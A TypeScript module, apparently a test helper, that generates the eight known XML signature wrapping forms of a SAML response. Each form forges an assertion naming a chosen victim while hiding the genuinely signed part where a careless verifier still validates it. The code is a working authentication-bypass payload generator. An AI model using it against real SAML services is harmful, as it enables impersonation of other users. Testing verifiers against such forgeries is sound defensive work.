import { DOMParser, XMLSerializer } from "@xmldom/xmldom";

/**
 * The eight forms of XML signature wrapping (Somorovsky and others, "On Breaking SAML", 2012): each keeps the signed part of a genuine
 * response somewhere in the document and puts a forged one, which names `victim` instead of `genuine`, where a careless reader looks.
 */
export function wrapSignature(
  xml: string,
  form: 1 | 2 | 3 | 4 | 5 | 6 | 7 | 8,
  { genuine, victim }: { readonly genuine: string; readonly victim: string },
): string {
  const document = new DOMParser().parseFromString(xml, "text/xml");
  const response = document.documentElement;
  const assertion = only(response, "Assertion");
  const forge = (element: Element): Element => {
    const copy = parse(serialize(element).replaceAll(genuine, victim));
    copy.setAttribute("ID", "_forged");
    return copy;
  };
  const without = (element: Element): Element => {
    const copy = parse(serialize(element));
    const signature = only(copy, "Signature", copy);
    signature.parentNode?.removeChild(signature);
    return copy;
  };
  switch (form) {
    case 1: {
      // The original response inside the signature of a forged one.
      const forged = forge(response);
      only(forged, "Signature", forged).appendChild(without(response));
      return serialize(forged);
    }
    case 2: {
      // The original response beside the signature of a forged one.
      const forged = forge(response);
      forged.insertBefore(without(response), only(forged, "Signature", forged));
      return serialize(forged);
    }
    case 3:
      // A forged assertion before the original.
      response.insertBefore(without(forge(assertion)), assertion);
      return serialize(response);
    case 4: {
      // The original inside a forged assertion.
      const forged = without(forge(assertion));
      response.replaceChild(forged, assertion);
      forged.appendChild(assertion);
      return serialize(response);
    }
    case 5:
      // The signature on a forged assertion, the original without it at the end.
      response.replaceChild(forge(assertion), assertion);
      response.appendChild(without(assertion));
      return serialize(response);
    case 6: {
      // As before, but the original inside the signature.
      const forged = forge(assertion);
      response.replaceChild(forged, assertion);
      only(forged, "Signature", forged).appendChild(without(assertion));
      return serialize(response);
    }
    case 7: {
      // A forged assertion in an extension, where schemas allow anything.
      const extensions = document.createElementNS(response.namespaceURI, "samlp:Extensions");
      extensions.appendChild(without(forge(assertion)));
      response.insertBefore(extensions, assertion);
      return serialize(response);
    }
    case 8: {
      // The original in an object of the signature.
      const forged = forge(assertion);
      const signature = only(forged, "Signature", forged);
      const object = document.createElementNS(signature.namespaceURI, "ds:Object");
      object.appendChild(without(assertion));
      signature.appendChild(object);
      response.replaceChild(forged, assertion);
      return serialize(response);
    }
  }
}

const serialize = (node: Node): string => new XMLSerializer().serializeToString(node);

const parse = (xml: string): Element => new DOMParser().parseFromString(xml, "text/xml").documentElement;

/** The first element of this local name, or the one that is a child of `parent`. */
function only(root: Element, name: string, parent?: Element): Element {
  const found = Array.from(root.getElementsByTagNameNS("*", name)).find(
    (one) => parent === undefined || one.parentNode === parent,
  );
  if (!found) throw new Error(`there is no ${name}`);
  return found;
}
